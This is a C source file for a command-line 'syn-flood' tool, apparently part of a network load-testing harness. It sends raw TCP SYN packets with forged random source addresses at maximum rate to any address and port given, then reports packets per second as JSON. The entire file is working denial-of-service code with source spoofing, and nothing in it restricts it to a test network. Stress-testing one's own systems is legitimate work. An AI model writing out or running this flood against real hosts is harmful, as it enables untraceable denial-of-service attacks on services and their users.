// SYNs from invented addresses of 100.64.0.0/10, as fast as a raw socket sends them (needs CAP_NET_RAW).
//
//   syn-flood ADDRESS PORT [--seconds S] [--warmup S]
#include "peer.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#define BATCH 64
#define SOURCES 0x64400000u
#define SOURCE_BITS 22

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
};

static uint32_t random32(void) {
  static uint32_t state = 0x9e3779b9;
  state ^= state << 13;
  state ^= state >> 17;
  return state ^= state << 5;
}

// The kernel fills in the checksum of the IP header, not this one.
static uint16_t checksum(const struct packet *p) {
  const uint16_t *words = (const uint16_t *)&p->tcp;
  uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof p->tcp);
  sum += (p->ip.saddr & 0xffff) + (p->ip.saddr >> 16) + (p->ip.daddr & 0xffff) + (p->ip.daddr >> 16);
  for (size_t i = 0; i < sizeof p->tcp / 2; i++) sum += words[i];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static void renew(struct packet *p) {
  p->ip.saddr = htonl(SOURCES | (random32() & ((1u << SOURCE_BITS) - 1)));
  p->tcp.source = htons((uint16_t)(1024 + random32() % 60000));
  p->tcp.seq = random32();
  p->tcp.check = 0;
  p->tcp.check = checksum(p);
}

int main(int argc, char **argv) {
  static const struct option names[] = {{"seconds", 1, NULL, 's'}, {"warmup", 1, NULL, 'w'}, {NULL, 0, NULL, 0}};
  double seconds = 3, warmup = 0.5;
  for (int name; (name = getopt_long(argc, argv, "", names, NULL)) != -1;) {
    if (name == 's') seconds = number_argument("--seconds", optarg, 0.01, 86400);
    else if (name == 'w') warmup = number_argument("--warmup", optarg, 0, 3600);
    else argc = 0;
  }
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (argc - optind != 2 || inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1) {
    fprintf(stderr, "usage: syn-flood ADDRESS PORT [--seconds S] [--warmup S]\n");
    return 2;
  }
  uint16_t port = (uint16_t)number_argument("PORT", argv[optind + 1], 1, 65535);
  bound_life(seconds + warmup);
  int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) fail("raw socket");
  static struct packet packets[BATCH];
  static struct iovec parts[BATCH];
  static struct mmsghdr messages[BATCH];
  for (int i = 0; i < BATCH; i++) {
    packets[i].ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(sizeof *packets), .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to.sin_addr.s_addr};
    packets[i].tcp = (struct tcphdr){.dest = htons(port), .doff = 5, .syn = 1, .window = htons(64240)};
    parts[i] = (struct iovec){&packets[i], sizeof *packets};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  uint64_t sent = 0, refused = 0;
  double begin = now_seconds() + warmup, end = begin + seconds;
  for (double t = now_seconds(); t < end && !stopped; t = now_seconds()) {
    for (int i = 0; i < BATCH; i++) renew(&packets[i]);
    int done = sendmmsg(fd, messages, BATCH, 0);
    // The device's queue is full: that is its full rate.
    if (done < 0 && errno != ENOBUFS && errno != EINTR) fail("sendmmsg");
    if (t < begin) continue;
    if (done > 0) sent += (uint64_t)done;
    if (done < BATCH) refused++;
  }
  printf("{\"mode\":\"syn-flood\",\"sent\":%llu,\"perSecond\":%.0f,\"refused\":%llu}\n", (unsigned long long)sent, (double)sent / seconds,
         (unsigned long long)refused);
  return 0;
}
